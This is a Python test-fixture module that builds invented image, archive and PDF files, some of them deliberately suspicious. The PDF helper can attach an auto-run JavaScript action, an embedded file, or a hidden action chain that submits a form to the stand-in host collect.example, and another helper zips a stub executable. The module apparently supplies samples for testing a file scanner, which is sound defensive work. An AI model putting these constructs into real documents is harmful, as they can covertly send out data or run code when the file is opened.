"""Invented papers: plain ones, and ones that are something else."""

from __future__ import annotations

import io
import struct
import zipfile
from zlib import crc32

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def picture(kind: str = "PNG", *, size: tuple[int, int] = (40, 30), **more: object) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", size, (120, 90, 60)).save(held, kind, **more)
    return held.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    body = name + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", crc32(body))


def with_chunk(png: bytes, name: bytes, data: bytes) -> bytes:
    """Put a chunk in front of the picture's data."""
    at = png.index(b"IDAT") - 4
    return png[:at] + chunk(name, data) + png[at:]


def with_segment(jpeg: bytes, marker: int, data: bytes) -> bytes:
    """Put a segment behind the first mark."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def archive() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as found:
        found.writestr("run.exe", "MZ")
    return held.getvalue()


def pdf(*, password: str = "", script: str = "", attached: bytes = b"", hidden: bool = False,
        pages: int = 1) -> bytes:  # fmt: skip
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if script:
        writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=script)
    if attached:
        writer.add_attachment("more.bin", attached)
    if hidden:
        first = _action("/URI", URI="https://example.com")
        first[NameObject("/Next")] = _action("/SubmitForm", F="https://collect.example")
        writer.root_object[NameObject("/OpenAction")] = first
    if password:
        writer.encrypt(password)
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def _action(kind: str, **more: str) -> DictionaryObject:
    facts = {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **facts})
